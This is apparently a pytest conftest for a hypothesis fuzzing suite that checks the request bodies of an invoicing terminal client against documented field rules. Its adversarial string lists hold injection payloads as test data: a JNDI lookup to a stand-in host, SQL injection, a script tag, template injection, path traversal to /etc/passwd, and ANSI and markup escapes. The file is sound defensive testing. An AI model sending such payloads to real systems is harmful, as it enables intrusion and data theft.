"""Shared pieces of the bad-input property suite (hypothesis).

pytest runs with ``--import-mode=importlib``: test modules cannot import each other or this file,
so what they share comes as session fixtures.

* ``gen``: strategies for adversarial input (Rich/Textual markup, ANSI escapes, control
  characters, bidi marks, emoji, 10k-character strings, boundary amounts and dates) and raw request
  dicts for every WriteModel, mixing well-formed and adversarial values field by field.
* ``wire_problems``: what in a request body breaks a documented rule (enkash-ar-api.md), or the
  project's own rule that text holds no line break, tab or invisible control character. The
  patterns are copied from the document, not imported from the product, and are matched with
  Java's semantics (the server is Spring: ``\\d`` and ``\\s`` are ASCII, whole values match).

Examples are never stored (``database=None`` in every test), and hypothesis's other caches go to
a temporary directory, not ``./.hypothesis``: nothing is written in the working tree.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import tempfile
import unicodedata
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import settings
from hypothesis import strategies as st
from hypothesis.configuration import set_hypothesis_home_dir
from pydantic import BaseModel

from enkash_tui.api.models import (
    CustomerCreate,
    CustomerFilter,
    CustomerUpdate,
    InvoiceCreate,
    InvoiceDeletion,
    InvoiceDispatch,
    InvoiceFilter,
    InvoiceStatusChange,
    InvoiceUpdate,
    KeyContactCreate,
    PaymentConfirmation,
    ReminderCreate,
    ReminderUpdate,
)
from enkash_tui.api.models.search import CustomerPageRequest, InvoicePageRequest

if not os.environ.get("HYPOTHESIS_STORAGE_DIRECTORY"):
    set_hypothesis_home_dir(os.path.join(tempfile.gettempdir(), "enkash-tui-hypothesis"))

WRITE_MODELS: tuple[type[BaseModel], ...] = (
    CustomerCreate,
    CustomerUpdate,
    KeyContactCreate,
    InvoiceCreate,
    InvoiceUpdate,
    InvoiceFilter,
    CustomerFilter,
    ReminderCreate,
    ReminderUpdate,
    PaymentConfirmation,
    InvoiceStatusChange,
    InvoiceDispatch,
    InvoiceDeletion,
    InvoicePageRequest,
    CustomerPageRequest,
)

# -- the documented rules (enkash-ar-api.md §1.3, §3.4, §4.2, §4.11, §4.23) ----------------------

DOC_CUSTOMER_ID = r"^KC[A-Z0-9]{14}$"
DOC_COMPANY_ID = r"^CEK[A-Z0-9]{7}$"
DOC_PHONE = r"^$|^((\+|00)(\d{1,3})[\s-]?)?(\d{10})$"
DOC_IFSC = r"^$|^[A-Za-z]{4}0[A-Z0-9a-z]{6}$"
DOC_ACCOUNT_NUMBER = r"^$|^[A-Za-z0-9]{9,36}$"
DOC_REMARKS = r'^([^\\"]){1,100}$'
# Not EnKash's: India Post's rule, which the project applies to pinCode.
PIN_CODE = r"^$|^[1-9][0-9]{5}$"
# The document only says "RFC 5322": one @, a dotted domain, no whitespace and (RFC 5322 has
# none in an address) no control characters.
EMAIL_SHAPE = r"^$|^[^@\s]+@[^@\s]+\.[^@\s]+$"
DATE = r"^\d{4}-\d{2}-\d{2}$"
FILTER_TIMESTAMP = r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$"
ISO_DATETIME = r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,6})?(Z|[+-]\d{2}:\d{2})$"
HH_MM = r"^([01]\d|2[0-3]):[0-5]\d$"
PAN = r"[A-Z]{5}[0-9]{4}[A-Z]"
GSTIN = rf"[0-9]{{2}}{PAN}[0-9A-Z]Z[0-9A-Z]"
# Not EnKash's either: India's GST numbering. A GSTIN starts with a state code (01-38, 97, 99)
# and ends with a mod-36 check character over the other 14.
GST_STATE_CODES = [f"{code:02d}" for code in range(1, 39)] + ["97", "99"]
# The project's own bounds on the dates of an invoice (years 2000 to 2099).
INVOICE_YEARS = (2000, 2099)


def gstin_check(first14: str) -> str:
    """The check character, worked out here (alphabet 0-9A-Z, weights 1, 2, 1, 2, ...)."""
    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
    total = 0
    for position, char in enumerate(first14):
        value = alphabet.index(char) * (1 if position % 2 == 0 else 2)
        total += value // 36 + value % 36
    return alphabet[-total % 36]


# Issue 15: text we send holds no line break, tab or invisible control character, which a
# terminal or a spreadsheet would act on: C0, DEL and C1 (Cc), the line and paragraph
# separators (Zl, Zp), bidi embeddings, overrides, isolates and marks, zero-width spaces (the
# joiners U+200C and U+200D spell Indian names and are allowed).
INVISIBLE = frozenset(
    "\u061c\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
)


def holds_control(text: str) -> bool:
    return any(unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") or c in INVISIBLE for c in text)


def _texts(value: object) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [text for item in value for text in _texts(item)]
    if isinstance(value, dict):
        return [text for k, v in value.items() for text in (*_texts(k), *_texts(v))]
    return []


APPROVAL_STATUSES = {
    "APPROVER_APPROVAL_PENDING",
    "APPROVER_APPROVED",
    "APPROVER_REJECTED",
    "BANK_APPROVED",
    "CHECKER_APPROVAL_PENDING",
    "CHECKER_APPROVED",
    "CHECKER_REJECTED",
    "MAKER_APPROVAL_PENDING",
    "MAKER_APPROVED",
    "MAKER_REJECTED",
}
BC_STATUSES = {"CREATED", "ACCEPTED", "RETURNED", "REJECTED", "PAID", "CANCELLED"}
MONEY = {
    "baseAmount",
    "balanceAmount",
    "cgst",
    "sgst",
    "igst",
    "tds",
    "netAmount",
    "totalReceived",
    "balanceAmountFrom",
    "balanceAmountTo",
    "baseAmountFrom",
    "baseAmountTo",
    "netAmountFrom",
    "netAmountTo",
}
FILTER_TIMES = {
    f"{base}{end}"
    for base in ("createdOn", "dispatchedOn", "dueDate", "invoiceDate")
    for end in ("From", "To")
}
PATCH_MODELS = {"CustomerUpdate", "InvoiceUpdate", "ReminderUpdate"}
FILTER_MODELS = {"CustomerFilter", "InvoiceFilter"}
INT32 = (-(2**31), 2**31 - 1)
# Search paging (§3.3): limit <= 5000 for invoices, <= 50 for customers; offset an int32.
PAGE_LIMITS = {"InvoicePageRequest": 5000, "CustomerPageRequest": 50}

# The same examples on every run (a random failure in CI would tell nobody anything new);
# HYPOTHESIS_PROFILE=explore searches afresh, for a developer hunting new cases.
settings.register_profile("repeatable", derandomize=True)
settings.register_profile("explore", derandomize=False)
settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "repeatable"))


def java_matches(pattern: str, value: object) -> bool:
    """``String.matches`` as Java runs it: the whole value, ``\\d``/``\\s`` ASCII only."""
    return isinstance(value, str) and re.fullmatch(pattern, value, re.ASCII) is not None


def _is_number(value: object) -> bool:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _json_decimal(value: int | float) -> Decimal:
    """The number exactly as the JSON text carries it."""
    return Decimal(json.dumps(value))


def _aliases(model_name: str) -> set[str]:
    model = next(m for m in WRITE_MODELS if m.__name__ == model_name)
    return {field.alias or name for name, field in model.model_fields.items()}


def wire_problems(body: Any, model_name: str) -> list[str]:
    """Every documented rule ``body`` (a request body for ``model_name``) breaks."""
    problems: list[str] = []

    def bad(key: str, value: object, rule: str) -> None:
        problems.append(f"{model_name}.{key}={value!r:.120}: {rule}")

    if not isinstance(body, dict):
        return [f"{model_name}: body is {type(body).__name__}, not an object"]
    try:
        json.dumps(body, allow_nan=False)
    except (TypeError, ValueError) as error:
        problems.append(f"{model_name}: not strict JSON ({error})")
    patch = model_name in PATCH_MODELS
    is_filter = model_name in FILTER_MODELS
    known = _aliases(model_name)
    for key, value in body.items():
        if key not in known:
            bad(key, value, "not a field of this request")
        if key not in ("customerKeyContacts", "customerReminders") and any(
            holds_control(text) for text in _texts(value)
        ):
            bad(key, value, "no line breaks, tabs or invisible control characters")
        if value is None:
            if not patch or (model_name == "InvoiceUpdate" and key == "customerId"):
                bad(key, value, "null is sent only to clear a field of a PATCH")
            continue
        if key == "customerId" and not is_filter and not java_matches(DOC_CUSTOMER_ID, value):
            bad(key, value, DOC_CUSTOMER_ID)
        elif key == "companyId" and not java_matches(DOC_COMPANY_ID, value):
            bad(key, value, DOC_COMPANY_ID)
        elif (
            key in ("contactNumber", "mobileNumber")
            and not is_filter
            and not java_matches(DOC_PHONE, value)
        ):
            bad(key, value, DOC_PHONE)
        elif key == "mobile" and not is_filter and not (value and java_matches(DOC_PHONE, value)):
            bad(key, value, "a key contact's mobile: " + DOC_PHONE + " and not empty")
        elif key == "ifsc" and not java_matches(DOC_IFSC, value):
            bad(key, value, DOC_IFSC)
        elif (
            key == "accountNumber" and not is_filter and not java_matches(DOC_ACCOUNT_NUMBER, value)
        ):
            bad(key, value, DOC_ACCOUNT_NUMBER)
        elif key == "pinCode" and not java_matches(PIN_CODE, value):
            bad(key, value, PIN_CODE)
        elif key == "panOrGstin" and not is_filter and java_matches(GSTIN, str(value).upper()):
            gstin = str(value).upper()
            if gstin[:2] not in GST_STATE_CODES or gstin_check(gstin[:14]) != gstin[14]:
                bad(key, value, "a GSTIN with a state code and its check character")
        elif key in ("email", "emailAddress") and not is_filter:
            if not java_matches(EMAIL_SHAPE, value) or len(value) > 254:
                bad(key, value, "an e-mail address (RFC 5322): " + EMAIL_SHAPE + ", <= 254")
            elif any(unicodedata.category(char) == "Cc" for char in value):
                bad(key, value, "an e-mail address (RFC 5322) has no control characters")
        elif key in MONEY:
            if not _is_number(value):
                bad(key, value, "money is a JSON number")
                continue
            exact = _json_decimal(value)
            if not exact.is_finite() or exact < 0:
                bad(key, value, "money is finite and not negative")
            elif exact.normalize().as_tuple().exponent < -2:  # type: ignore[operator]
                bad(key, value, "money has at most 2 decimal places")
            elif key == "baseAmount" and exact < Decimal("0.1"):
                bad(key, value, "baseAmount >= 0.1")
        elif key in FILTER_TIMES and is_filter:
            if not java_matches(FILTER_TIMESTAMP, value):
                bad(key, value, "filter timestamps are yyyy-MM-dd HH:mm:ss")
        elif key == "dueDate":
            if not java_matches(DATE, value):
                bad(key, value, "dueDate is yyyy-MM-dd")
            elif not INVOICE_YEARS[0] <= int(value[:4]) <= INVOICE_YEARS[1]:
                bad(key, value, "an invoice is due in the years 2000 to 2099")
        elif key == "invoiceDate":
            if not java_matches(ISO_DATETIME, value):
                bad(key, value, "invoiceDate is an ISO-8601 date-time with its offset")
            elif not INVOICE_YEARS[0] <= int(value[:4]) <= INVOICE_YEARS[1]:
                bad(key, value, "an invoice is dated in the years 2000 to 2099")
        elif key == "via" and not is_filter and value not in ("EMAIL", "SMS", "WHATSAPP"):
            bad(key, value, "EMAIL, SMS or WHATSAPP")
        elif key == "stage" and value not in ("BEFORE_DUE", "ON_DUE", "AFTER_DUE"):
            bad(key, value, "BEFORE_DUE, ON_DUE or AFTER_DUE")
        elif key == "reminderTime" and not java_matches(HH_MM, value):
            bad(key, value, "reminderTime is HH:mm")
        elif key == "reminderType" and value not in ("ONCE", "RECURRING"):
            bad(key, value, "ONCE or RECURRING")
        elif key in ("dueDateDifference", "reminderInterval"):
            if (
                not isinstance(value, int)
                or isinstance(value, bool)
                or not INT32[0] <= value <= INT32[1]
            ):
                bad(key, value, "an int32")
        elif key == "remarks" and not java_matches(DOC_REMARKS, value):
            bad(key, value, DOC_REMARKS)
        elif key == "response" and value not in ("ACCEPT", "REJECT"):
            bad(key, value, "ACCEPT or REJECT")
        elif key == "type" and value not in ("ONPLATFORM", "OFFPLATFORM"):
            bad(key, value, "ONPLATFORM or OFFPLATFORM")
        elif key == "status" and value not in BC_STATUSES:
            bad(key, value, "a Bharat Connect status")
        elif key == "approvalStatus" and value not in APPROVAL_STATUSES:
            bad(key, value, "one of the 10 documented approval statuses")
        elif key == "approvalStatuses" and not (
            isinstance(value, list) and set(value) <= APPROVAL_STATUSES
        ):
            bad(key, value, "documented approval statuses")
        elif key == "invoiceIds" and not (
            isinstance(value, list) and value and all(isinstance(i, str) for i in value)
        ):
            bad(key, value, "a non-empty list of invoice ids")
        elif key in ("offset", "limit") and model_name in PAGE_LIMITS:
            low, high = (0, INT32[1]) if key == "offset" else (1, PAGE_LIMITS[model_name])
            if not isinstance(value, int) or isinstance(value, bool) or not low <= value <= high:
                bad(key, value, f"an int32 from {low} to {high}")
        elif key == "direction" and value not in ("ASC", "DESC"):
            bad(key, value, "ASC or DESC")
        elif key == "orderBy" and not (isinstance(value, str) and value):
            bad(key, value, "a field name")
        elif key == "customerKeyContacts":
            if not isinstance(value, list) or (model_name == "CustomerCreate" and not value):
                bad(key, value, "a list of key contacts (required on create)")
                continue
            for index, contact in enumerate(value):
                for problem in wire_problems(contact, "KeyContactCreate"):
                    problems.append(f"{model_name}.{key}.{index}: {problem}")
        elif key == "customerReminders":
            if not isinstance(value, list):
                bad(key, value, "a list of reminder rules")
                continue
            for index, rule in enumerate(value):
                for problem in wire_problems(rule, "ReminderCreate"):
                    problems.append(f"{model_name}.{key}.{index}: {problem}")
    due, dated = body.get("dueDate"), body.get("invoiceDate")
    if isinstance(due, str) and isinstance(dated, str) and not is_filter and due < dated[:10]:
        bad("dueDate", due, f"an invoice is not due before it is dated ({dated})")
    required = {
        "CustomerCreate": ("legalName", "customerKeyContacts"),
        "KeyContactCreate": ("deleted", "legalName", "mobile", "name"),
        "InvoiceCreate": ("customerId", "dueDate", "baseAmount"),
        "PaymentConfirmation": ("invoiceIds", "paymentId", "remarks", "response", "type"),
    }.get(model_name, ())
    for key in required:
        if body.get(key) in (None, "", []):
            bad(key, body.get(key), "required")
    if model_name == "PaymentConfirmation" and (body.get("response"), body.get("type")) == (
        "REJECT",
        "ONPLATFORM",
    ):
        bad("response", "REJECT", "REJECT is only for OFFPLATFORM payments")
    return problems


# -- adversarial atoms --------------------------------------------------------------------------

MARKUP = [
    "[bold red]x[/]",
    "[bold]",
    "[/]",
    "[/bold]",
    "[link=http://evil.test]click",
    "[link=http://evil.test]click[/link]",
    "[@click=app.quit]quit[/]",
    "[$accent]x[/]",
    "[on red]",
    "\\[escaped]",
    "][",
]
ANSI = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[?1049h",
    "\x9b31m",
    "\x07",
]
CONTROL = ["\x00", "\x08", "\x0b", "\x0c", "\x1c", "\x1f", "\x7f", "\x85", "\r", "\r\n", "\n", "\t"]
UNICODE = [
    "\u202eevil\u202c",
    "\u200f\u200e",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\u00a0",
    "😀",
    "👨‍👩‍👧‍👦",
    "ᴋᴄ",
    "ＫＣ１Ａ２Ｂ３Ｃ４Ｄ５Ｅ６Ｆ７Ｇ",
    "١٢٣٤٥٦٧٨٩٠",
    "𝟗𝟖𝟏𝟐𝟑𝟒𝟓𝟔𝟕𝟖",
    "₹",
    "Z̸̢̛a̴l̷g̶o̵",
    "\u0301",
    "İß",
]
INJECTION = [
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "%s%n%x",
    "../../etc/passwd",
    "..",
    ".",
    "\\",
    '"',
    "'",
    ",",
    ";",
    "null",
    "None",
    "undefined",
    "true",
    "[]",
    "{}",
]
LONG = ["a" * 10_000, "9" * 10_000, "[b]" * 3_000, "😀" * 3_000, " " * 5_000]
NASTY_STRINGS = [*MARKUP, *ANSI, *CONTROL, *UNICODE, *INJECTION, *LONG, "", " ", "  padded  "]

NASTY_NUMBERS: list[Any] = [
    0,
    "0",
    "0.00",
    "-0",
    "-0.00",
    0.09,
    "0.09",
    0.1,
    "0.1",
    "0.10",
    Decimal("0.1"),
    0.099,
    "0.099",
    Decimal("0.099"),
    "0.1000000001",
    1e15,
    "1e15",
    10**15,
    "999999999999999",
    "9999999999999.99",
    "99999999999999.99",
    -1,
    "-0.01",
    Decimal("-0.01"),
    "NaN",
    "nan",
    "sNaN",
    "-sNaN",
    "Infinity",
    "-Infinity",
    "inf",
    float("nan"),
    float("inf"),
    float("-inf"),
    Decimal("NaN"),
    Decimal("sNaN"),
    Decimal("Infinity"),
    "1.23456789",
    "1.005",
    "1,000",
    "1,00,000.50",
    "₹100",
    "1_000",
    "١٢٣",
    " 12 ",
    "1e-7",
    "1E+2",
    "0E-10",
    "1e999999999",
    "0x10",
    2**64,
    -(2**63),
    True,
    False,
    "",
]
NASTY_DATES: list[Any] = [
    "0001-01-01",
    "9999-12-31",
    "2024-02-29",
    "2023-02-29",
    "2026-02-30",
    "2026-13-01",
    "2026-00-10",
    "2026-1-1",
    "26-01-01",
    "2026/01/01",
    "01-02-2026",
    "2026-01-01T00:00:00",
    "2026-01-01T00:00:00Z",
    "2026-01-01T00:00:00+05:30",
    "2026-01-01 00:00:00",
    "9999-12-31T23:59:59-23:59",
    "0001-01-01T00:00:00+14:00",
    "0001-01-01T00:00:00Z",
    "2026-01-01T24:00:00Z",
    "0",
    "-1",
    "1e20",
    253402300800,
    -62135596801,
    "now",
    "today",
    "٢٠٢٦-٠١-٠١",
    dt.date(1, 1, 1),
    dt.date(9999, 12, 31),
    dt.datetime(1, 1, 1),
    dt.datetime(9999, 12, 31, 23, 59, 59, 999999),
    dt.datetime(2024, 2, 29, tzinfo=dt.UTC),
    dt.time(23, 59),
]

_NO_SURROGATES = st.characters(exclude_categories=("Cs",))
# What a person types in a text field: any printable character of any script.
_PRINTABLE = st.characters(
    exclude_categories=("Cs", "Cc", "Zl", "Zp"), exclude_characters=sorted(INVISIBLE)
)
_OFFSETS = st.integers(min_value=-(23 * 60 + 59), max_value=23 * 60 + 59).map(
    lambda minutes: dt.timezone(dt.timedelta(minutes=minutes))
)


def _pattern(regex: str) -> st.SearchStrategy[str]:
    return st.from_regex(re.compile(regex, re.ASCII), fullmatch=True)


class Gen:
    """The strategies, as one object handed out by the ``gen`` fixture."""

    customer_id = _pattern(DOC_CUSTOMER_ID)
    company_id = _pattern(DOC_COMPANY_ID)
    invoice_id = st.from_regex(r"KI[A-Z0-9]{14}", fullmatch=True)
    # The document's \s between code and number, less the tab and line breaks text may not hold.
    phone = _pattern(DOC_PHONE.replace(r"[\s-]", "[ -]"))
    ifsc = _pattern(DOC_IFSC)
    account_number = _pattern(DOC_ACCOUNT_NUMBER)
    pin_code = _pattern(PIN_CODE)
    pan_or_gstin = st.one_of(
        st.just(""),
        st.from_regex(PAN, fullmatch=True),
        st.tuples(
            st.sampled_from(GST_STATE_CODES), st.from_regex(rf"{PAN}[0-9A-Z]Z", fullmatch=True)
        )
        .map("".join)
        .map(lambda first14: first14 + gstin_check(first14)),
    )
    email = st.one_of(st.just(""), st.emails().filter(lambda e: len(e) <= 254))
    clean_text = st.text(_PRINTABLE, min_size=1, max_size=40).filter(lambda s: s.strip())
    nasty_text = st.one_of(
        st.sampled_from(NASTY_STRINGS),
        st.text(_NO_SURROGATES, max_size=60),
        st.tuples(st.sampled_from(NASTY_STRINGS), st.text(_NO_SURROGATES, max_size=10)).map(
            "".join
        ),
        st.tuples(st.text(_NO_SURROGATES, min_size=1, max_size=4), st.integers(500, 3000)).map(
            lambda t: t[0] * t[1]
        ),
    )
    money = st.decimals(
        min_value=0, max_value=Decimal("9999999999999.99"), places=2, allow_nan=False
    )
    money_forms = money.flatmap(
        lambda d: st.sampled_from([d, str(d), float(d), int(d) if d == int(d) else d])
    )
    nasty_number = st.one_of(
        st.sampled_from(NASTY_NUMBERS),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
        st.decimals(allow_nan=False, allow_infinity=False),
        st.floats(),
        st.integers(),
    )
    nasty_date = st.one_of(
        st.sampled_from(NASTY_DATES),
        st.dates().map(dt.date.isoformat),
        st.datetimes().map(dt.datetime.isoformat),
        st.datetimes(timezones=_OFFSETS).map(dt.datetime.isoformat),
        st.dates(),
        st.datetimes(),
    )
    nasty_any = st.one_of(
        nasty_text,
        nasty_number,
        nasty_date,
        st.none(),
        st.booleans(),
        st.lists(nasty_text, max_size=3),
        st.dictionaries(st.text(max_size=5), nasty_text, max_size=2),
        st.binary(max_size=8),
    )
    junk_key = st.one_of(
        st.sampled_from(["customerID", "legal_Name", "extra", "__proto__", "$where", ""]),
        nasty_text,
    )

    def __init__(self) -> None:
        self._good: dict[str, st.SearchStrategy[Any]] = {
            "customerId": self.customer_id,
            "companyId": self.company_id,
            "contactNumber": self.phone,
            "mobileNumber": self.phone,
            "mobile": self.phone.filter(bool),
            "ifsc": self.ifsc,
            "accountNumber": self.account_number,
            "pinCode": self.pin_code,
            "panOrGstin": self.pan_or_gstin,
            "email": self.email,
            "emailAddress": self.email,
            "legalName": self.clean_text,
            "name": self.clean_text,
            "dueDate": st.dates(dt.date(2000, 1, 1), dt.date(2099, 12, 31)).map(dt.date.isoformat),
            "invoiceDate": st.datetimes(
                dt.datetime(2000, 1, 2), dt.datetime(2099, 12, 30), timezones=_OFFSETS
            ).map(dt.datetime.isoformat),
            "reminderTime": st.times().map(lambda t: t.strftime("%H:%M")),
            "reminderType": st.sampled_from(["ONCE", "RECURRING"]),
            "dueDateDifference": st.integers(-365, 365),
            "reminderInterval": st.integers(1, 365),
            "stage": st.sampled_from(["BEFORE_DUE", "ON_DUE", "AFTER_DUE"]),
            "remarks": st.text(
                st.characters(
                    exclude_categories=("Cs", "Cc", "Zl", "Zp"),
                    exclude_characters=["\\", '"', *sorted(INVISIBLE)],
                ),
                min_size=1,
                max_size=100,
            ).filter(lambda s: s.strip()),
            "response": st.sampled_from(["ACCEPT", "REJECT"]),
            "type": st.sampled_from(["ONPLATFORM", "OFFPLATFORM"]),
            "status": st.sampled_from(sorted(BC_STATUSES)),
            "approvalStatus": st.sampled_from(sorted(APPROVAL_STATUSES)),
            "approvalStatuses": st.lists(st.sampled_from(sorted(APPROVAL_STATUSES)), max_size=3),
            "bharatConnectStatuses": st.lists(st.sampled_from(sorted(BC_STATUSES)), max_size=3),
            "customerStatus": st.sampled_from(["ACTIVE", "INACTIVE"]),
            "invoiceIds": st.lists(self.invoice_id, min_size=1, max_size=3),
            "customerIds": st.lists(self.customer_id, max_size=3),
            "objectVersions": st.dictionaries(self.invoice_id, st.integers(1, 50), max_size=3),
            "offset": st.integers(0, 10_000),
            "limit": st.integers(1, 50),
            "orderBy": st.sampled_from(["dueDate", "legalName", "createdOn", "baseAmount"]),
            "direction": st.sampled_from(["ASC", "DESC"]),
            "paymentId": st.from_regex(r"PMT[A-Za-z0-9]{32}", fullmatch=True),
            "baseAmount": self.money_forms.filter(lambda v: Decimal(str(v)) >= 1),
            "customerKeyContacts": st.lists(
                st.deferred(lambda: self.model_input(KeyContactCreate)), min_size=1, max_size=3
            ),
            "customerReminders": st.lists(
                st.deferred(lambda: self.model_input(ReminderCreate)), max_size=2
            ),
            **{key: self.money_forms for key in MONEY if key != "baseAmount"},
            **{
                key: st.datetimes(dt.datetime(2000, 1, 1), dt.datetime(2100, 12, 31))
                for key in FILTER_TIMES
            },
        }

    def good(self, model: type[BaseModel], name: str) -> st.SearchStrategy[Any]:
        """A well-formed value for one field (by its wire name, else by its type)."""
        field = model.model_fields[name]
        alias = field.alias or name
        if alias in self._good:
            return self._good[alias]
        text = repr(field.annotation)
        if "bool" in text:
            return st.booleans()
        if "list[str]" in text:
            return st.lists(self.clean_text, max_size=3)
        return self.clean_text

    def model_input(self, model: type[BaseModel]) -> st.SearchStrategy[dict[str, Any]]:
        """A raw request dict for ``model``: clean, with one bad field, or bad all over."""

        @st.composite
        def build(draw: st.DrawFn) -> dict[str, Any]:
            mode = draw(st.sampled_from(["clean", "one bad", "mixed"]))
            names = list(model.model_fields)
            spoilt = draw(st.sampled_from(names)) if mode == "one bad" else None
            body: dict[str, Any] = {}
            for name in names:
                field = model.model_fields[name]
                alias = field.alias or name
                if mode == "mixed":
                    how = draw(st.sampled_from(["absent", "good", "nasty", "nasty", "null"]))
                elif name == spoilt:
                    how = draw(st.sampled_from(["nasty", "null", "absent"]))
                elif field.is_required():
                    how = "good"
                else:
                    how = draw(st.sampled_from(["absent", "good"]))
                if how == "absent":
                    continue
                key = alias if alias == name or draw(st.integers(0, 4)) else name
                if how == "good":
                    body[key] = draw(self.good(model, name))
                elif how == "null":
                    body[key] = None
                else:
                    body[key] = draw(self.nasty_for(alias))
            if mode == "mixed" and draw(st.integers(0, 5)) == 0:
                body[draw(self.junk_key)] = draw(self.nasty_any)
            return body

        return build()

    def nasty_for(self, alias: str) -> st.SearchStrategy[Any]:
        """Adversarial values, mostly of the kind the field expects."""
        if alias in MONEY:
            return st.one_of(self.nasty_number, self.nasty_any)
        if alias in FILTER_TIMES or alias in ("dueDate", "invoiceDate", "reminderTime"):
            return st.one_of(self.nasty_date, self.nasty_any)
        if alias in ("dueDateDifference", "reminderInterval", "offset", "limit"):
            return st.one_of(
                st.sampled_from(
                    [-366, 366, 0, -1, 51, 5001, 2**31, -(2**31) - 1, "5", "5.0", "5.5", 1.5, True]
                ),
                self.nasty_number,
                self.nasty_any,
            )
        if alias in ("customerKeyContacts", "customerReminders", "invoiceIds", "customerIds"):
            return st.one_of(
                st.just([]),
                st.lists(self.nasty_any, max_size=3),
                st.lists(self.model_input(KeyContactCreate), max_size=2),
                self.nasty_any,
            )
        if alias in self._good and alias not in ("legalName", "name"):
            # A good value spoilt at one end or the other: "KC1A2B3C4D5E6F7G\n", " 9812345678x".
            return st.one_of(
                st.tuples(self._good[alias], st.sampled_from(NASTY_STRINGS)).map(
                    lambda t: f"{t[0]}{t[1]}" if isinstance(t[0], str) else t[1]
                ),
                st.tuples(st.sampled_from(NASTY_STRINGS), self._good[alias]).map(
                    lambda t: f"{t[0]}{t[1]}" if isinstance(t[1], str) else t[0]
                ),
                self.nasty_any,
            )
        return self.nasty_any


@pytest.fixture(scope="session")
def gen() -> Gen:
    return Gen()


@pytest.fixture(scope="session", name="wire_problems")
def wire_problems_fixture() -> Any:
    return wire_problems


@pytest.fixture(scope="session", name="write_models")
def write_models_fixture() -> tuple[type[BaseModel], ...]:
    return WRITE_MODELS
